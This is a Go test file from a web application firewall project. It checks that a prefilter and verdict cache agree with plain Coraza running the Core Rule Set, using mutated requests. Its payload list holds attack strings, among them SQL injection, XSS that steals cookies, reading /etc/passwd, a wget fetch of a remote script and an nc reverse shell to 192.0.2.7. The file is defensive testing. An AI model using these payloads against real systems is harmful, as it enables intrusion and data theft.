package filter

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/filter/record/recordtest"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/corpus"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/ftw"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/setting"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/testsize"
)

// The prefilter and the verdict cache must not change a verdict. These tests compare every verdict with that of plain Coraza, on
// records without an attack, on the requests of the Core Rule Set's regression suite, and on mutations of both. EQUALITY=1000000 sets
// the number of mutations; a fifth as many clean records come besides. EQUALITY_KEEP=DIR keeps what plain Coraza said, which is
// two thirds of the time, for the next change of the prefilter.

// mutations returns which mutations are compared: of EQUALITY in all those from EQUALITY_FROM on, so that many can be compared in
// parts.
func mutations(t testing.TB) (from, to int) {
	t.Helper()
	if text := os.Getenv("EQUALITY_FROM"); text != "" {
		var err error
		from, err = strconv.Atoi(text)
		require.NoError(t, err)
	}
	return from, testsize.Random(t, 4*perChunk, 1)
}

// payloads are attacks of the classes that CRS knows, to be planted in clean requests.
var payloads = []string{
	"../../../../etc/passwd", "1' OR '1'='1", "1 UNION SELECT user,password FROM users--", "<script>alert(1)</script>",
	"<img src=x onerror=alert(document.cookie)>", "; cat /etc/shadow", "$(wget http://192.0.2.7/x.sh)", "`id`", "|| ping -c 3 192.0.2.7",
	"http://169.254.169.254/latest/meta-data/", "${jndi:ldap://192.0.2.7/a}", "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index",
	"{{7*7}}", "O:8:\"stdClass\":0:{}", "_$$ND_FUNC$$_function(){}", "javascript:alert(1)", "sleep(5)#", "'; DROP TABLE users; --",
	"%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1", "() { :;}; /bin/bash -c id", "rO0ABXNyABdqYXZh", "../../windows/win.ini", "C:\\boot.ini",
	"=cmd|' /C calc'!A0", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "AND SLEEP(5)", "admin'/*", "0x27206f722031", "nc -e /bin/sh 192.0.2.7 4444",
	"1 union all %c5%bfelect password", "1 union &#383;elect x", "%e2%84%aaill -9 1", "%u017felect", "powershell -enc SQBFAFgA", "union%20all%20select", "%ff%fe%80union select 1", "\u212aill -9", "eval(atob('YQ=='))", "__proto__[x]=1",
}

// request is a request that mutations work on.
type request struct {
	method, target string
	headers        [][2]string
	body           string
}

func cleanRequest(i uint64) request {
	r := corpus.Clean(i)
	req := request{method: r.Method, target: r.Target, body: r.RequestBody}
	if i%3 == 0 {
		r.RequestHead = strings.Replace(r.RequestHead, "Host: "+r.Host, "Host: 10.2.3.4", 1)
	}
	lines := strings.Split(strings.TrimSuffix(r.RequestHead, "\r\n\r\n"), "\r\n")
	for _, line := range lines[1:] {
		name, value, _ := strings.Cut(line, ": ")
		req.headers = append(req.headers, [2]string{name, value})
	}
	return req
}

// suiteRequests are the requests of the Core Rule Set's regression suite.
var suiteRequests = sync.OnceValue(func() (all []request) {
	tests, err := ftw.Read()
	if err != nil {
		panic(err)
	}
	for i := range tests {
		for _, stage := range tests[i].Stages {
			r := request{method: stage.Request.Method, target: oneLine(stage.Request.URI), body: stage.Request.Body}
			for _, h := range stage.Request.Headers {
				r.headers = append(r.headers, [2]string{h.Name, oneLine(h.Value)})
			}
			all = append(all, r)
		}
	}
	return all
})

// anyRequest returns a request of the clean corpus, or one of the suite.
func (m mutator) anyRequest(i uint64) request {
	if i%3 == 0 {
		return cleanRequest(i)
	}
	return suiteRequests()[m.IntN(len(suiteRequests()))]
}

// splice returns a part of a request of the suite.
func (m mutator) splice() string {
	r := suiteRequests()[m.IntN(len(suiteRequests()))]
	_, query, _ := strings.Cut(r.target, "?")
	parts := []string{query, r.body}
	for _, h := range r.headers {
		parts = append(parts, h[1])
	}
	part := m.pick(parts)
	from := m.IntN(len(part) + 1)
	return part[from : from+m.IntN(len(part)-from+1)]
}

// event writes the request as a Nano probe logs it.
func (r request) event(response string) []byte {
	logged := recordtest.Request{Client: "192.0.2.9", Method: r.method, Target: r.target, Headers: r.headers, Body: r.body, Response: response}
	return logged.Event()
}

// mutator changes requests by a seeded choice.
type mutator struct{ *rand.Rand }

func (m mutator) pick(list []string) string { return list[m.IntN(len(list))] }

// text changes a text: it plants attacks, flips, cuts, repeats, encodes and breaks it.
func (m mutator) text(s string) string {
	switch m.IntN(16) {
	case 0:
		return s + m.pick(payloads)
	case 1:
		return m.pick(payloads)
	case 2:
		at := m.IntN(len(s) + 1)
		return s[:at] + m.pick(payloads) + s[at:]
	case 3:
		return s[:m.IntN(len(s)+1)]
	case 4:
		return url.QueryEscape(s)
	case 5:
		return url.QueryEscape(url.QueryEscape(s))
	case 6:
		return strings.ToUpper(s)
	case 7:
		return strings.ReplaceAll(s, " ", "/**/")
	case 8:
		return m.flip(s)
	case 9:
		at := m.IntN(len(s) + 1)
		return s[:at] + m.pick([]string{"\x00", "\xff", "\xc0\xaf", "\u212a", "\u017f", "%00", "%c0%ae", "\n", "\r\n", "é", "\\", "'", "\"", "<", ";", "&"}) + s[at:]
	case 10:
		return strings.ReplaceAll(s, "/", "\\")
	case 11:
		return strings.ReplaceAll(s, "a", "%u0061")
	case 12:
		return strings.ReplaceAll(s, "e", "&#x65;")
	case 13, 14:
		at := m.IntN(len(s) + 1)
		return s[:at] + m.splice() + s[at:]
	default:
		return s + s
	}
}

func (m mutator) flip(s string) string {
	b := []byte(s)
	for range min(3, len(b)) {
		b[m.IntN(len(b))] ^= 1 << m.IntN(8)
	}
	return string(b)
}

func (m mutator) request(r request) request {
	r.headers = append([][2]string{}, r.headers...)
	for range 1 + m.IntN(3) {
		switch m.IntN(9) {
		case 0, 1:
			path, query, _ := strings.Cut(r.target, "?")
			r.target = oneLine(path + "?" + m.text(query))
		case 2:
			r.target = oneLine("/" + strings.TrimPrefix(m.text(r.target), "/"))
		case 3:
			r.target = oneLine(r.target + "&x=" + url.QueryEscape(m.text("1")))
		case 4, 5:
			if n := len(r.headers); n > 0 {
				i := m.IntN(n)
				r.headers[i][1] = oneLine(m.text(r.headers[i][1]))
			}
		case 6:
			r.headers = append(r.headers, [2]string{m.pick([]string{"Cookie", "X-Forwarded-For", "Referer", "Content-Type", "Range",
				"Transfer-Encoding", "X-Api", "Content-Length", "Accept"}), oneLine(m.text("a=b"))})
		default:
			r.body = m.text(r.body)
		}
	}
	if m.IntN(20) == 0 {
		r.method = m.pick([]string{"PUT", "TRACE", "POST", "G\x00T", "get", "PROPFIND"})
	}
	return r
}

func oneLine(s string) string { return strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(s) }

// opinion is what must be equal. Coraza reports the values of a collection in any order: of a match of several, only what does not depend on
// it is compared.
func opinion(f Finding) string {
	if f.Verdict == nil {
		return fmt.Sprint("kind ", f.Kind)
	}
	text := fmt.Sprint("kind ", f.Kind, " blocked ", f.Verdict.Blocked, " scores ", f.Verdict.Inbound, f.Verdict.Outbound, f.Verdict.Scores)
	for _, m := range f.Verdict.Matches {
		if m.Values > 1 {
			names := slices.Sorted(slices.Values(append(slices.Clone(m.Others), m.Variable)))
			text += fmt.Sprintf("\n%d matches %d: %q", m.Rule.ID, m.Values, names[:min(len(names), mostNames)])
			continue
		}
		text += fmt.Sprintf("\n%d %s %q in %q: %q", m.Rule.ID, m.Message, m.Data, m.Variable, m.Value)
	}
	return text
}

// mostNames are how many names are compared: which of more a match has is chance.
const mostNames = 30

// plainTries is how often plain Coraza is asked before a difference counts: it walks maps in random order, and for arguments that
// repeat in a body, or malformed headers of a part, its verdict depends on that order.
const plainTries = 80

// requireEqual compares the verdicts of filters on a chunk with those of a plain one. A filter without a cache is asked again, when it knows
// the combinations of rules that the chunk has.
func requireEqual(t *testing.T, fast, uncached, plain *Filter, events [][]byte) (clean int) {
	t.Helper()
	var chunk []byte
	for _, e := range events {
		chunk = append(chunk, e...)
	}
	want := plainSays(t, plain, chunk)
	for i := range events {
		requireSameAlert(t, fast, plain, events[i], want[i].Kind)
	}
	for n, f := range []*Filter{fast, uncached, uncached} {
		got := f.Check(chunk)
		require.Len(t, got, len(events))
		for i := range events {
			if n == 0 && got[i].Verdict != nil && got[i].Verdict.Clean() {
				clean++
			}
			if opinion(got[i]) != want[i].Opinion && !agreesInTime(plain, events[i], got[i]) {
				t.Fatalf("plain Coraza: %s\nwe: %s\nrecord %q", want[i].Opinion, opinion(got[i]), events[i])
			}
		}
	}
	return clean
}

// said is what plain Coraza says about a record.
type said struct {
	Kind    Kind
	Opinion string
}

// plainSays asks plain Coraza about the records of a chunk, or the folder EQUALITY_KEEP, when it was asked before: with the same rules
// and versions. A difference to what is kept does not count before plain Coraza was asked again.
func plainSays(t *testing.T, plain *Filter, chunk []byte) (all []said) {
	t.Helper()
	dir := os.Getenv("EQUALITY_KEEP")
	if dir == "" {
		return ask(plain, chunk)
	}
	h := sha256.New()
	build, ok := debug.ReadBuildInfo()
	require.True(t, ok)
	for _, m := range build.Deps {
		fmt.Fprintln(h, m.Path, m.Version, m.Sum) //nolint:errcheck // a hash takes everything
	}
	fmt.Fprintln(h, plain.rules.Set().ID()) //nolint:errcheck // a hash takes everything
	h.Write(chunk)
	file := filepath.Join(dir, hex.EncodeToString(h.Sum(nil))+".json")
	if text, err := os.ReadFile(file); err == nil {
		require.NoError(t, json.Unmarshal(text, &all))
		return all
	}
	all = ask(plain, chunk)
	text, err := json.Marshal(all)
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(dir, 0o700))
	require.NoError(t, os.WriteFile(file+"~", text, 0o600))
	require.NoError(t, os.Rename(file+"~", file))
	return all
}

func ask(plain *Filter, chunk []byte) (all []said) {
	for _, f := range plain.Check(chunk) {
		all = append(all, said{f.Kind, opinion(f)})
	}
	return all
}

// requireSameAlert compares what the pipeline makes of a record, which may be decided with less, with what plain Coraza finds or, asked
// again, can find.
func requireSameAlert(t *testing.T, fast, plain *Filter, event []byte, want Kind) {
	t.Helper()
	got := kindOf(fast, event)
	for range plainTries {
		if got == want {
			return
		}
		want = plain.Check(event)[0].Kind
	}
	t.Fatalf("plain Coraza: kind %d\nthe pipeline: kind %d, record %q", want, got, event)
}

// kindOf returns what the pipeline makes of a record.
func kindOf(f *Filter, event []byte) Kind {
	before := f.Counts()
	process(f, event, "")
	switch after := f.Counts(); {
	case after.Alerts > before.Alerts:
		return Alert
	case after.Clean > before.Clean:
		return Clean
	case after.Broken > before.Broken:
		return Broken
	}
	return NotHTTP
}

// agreesInTime asks plain Coraza again. A verdict with matches is the engine's own: it may also be one of many that plain
// Coraza gives in turn.
func agreesInTime(plain *Filter, event []byte, got Finding) bool {
	opinions := map[string]bool{}
	for range plainTries {
		is := opinion(plain.Check(event)[0])
		if is == opinion(got) {
			return true
		}
		opinions[is] = true
	}
	return len(opinions) > 1 && got.Verdict != nil && !got.Verdict.Clean()
}

func TestVerdictsEqualPlainCoraza(t *testing.T) {
	for paranoia := 1; paranoia <= 4; paranoia += testsize.Of(3, 1) {
		t.Run(fmt.Sprint("paranoia ", paranoia), func(t *testing.T) {
			settings := setting.Map{"blocking_paranoia": fmt.Sprint(paranoia)}
			for name, value := range corpus.Settings {
				settings[name] = value
			}
			fast := newFilter(t, settings)
			settings["cache_size"] = "0"
			uncached := newFilter(t, settings)
			settings["gate"] = "off"
			plain := newFilter(t, settings)
			from, to := mutations(t)
			compareMutations(t, fast, uncached, plain, from/4/perChunk*perChunk, to/4)
		})
	}
}

const perChunk = 60

// compareMutations compares mutations by number, every fourth of them unchanged, and a fifth as many clean records.
func compareMutations(t *testing.T, fast, uncached, plain *Filter, from, to int) {
	t.Helper()
	var clean, all int
	for first := from; first < to; first += perChunk {
		m := mutator{rand.New(rand.NewPCG(11, uint64(first)))}
		var events [][]byte
		for i := range perChunk {
			r := m.anyRequest(uint64(first + i))
			if i%4 != 0 {
				r = m.request(r)
			}
			events = append(events, r.event(m.text("<p>welcome</p>")))
		}
		for i := range perChunk / 5 {
			r := corpus.Clean(1<<50 + uint64(first/5+i))
			events = append(events, r.AppendEvent(nil, corpus.ProbeLimit*(i%2)))
		}
		clean += requireEqual(t, fast, uncached, plain, events)
		all += len(events)
	}
	t.Logf("%d of %d records clean, prefilter and cache: %+v, without a cache %+v", clean, all, fast.rules.Set().Speed(), uncached.rules.Set().Speed())
}

// One rule that always runs makes the prefilter useless.
func TestGateUnderstandsTheCoreRuleSet(t *testing.T) {
	for _, paranoia := range []string{"1", "2"} {
		f := newFilter(t, setting.Map{"blocking_paranoia": paranoia})
		require.Empty(t, f.rules.Set().Notes())
	}
}
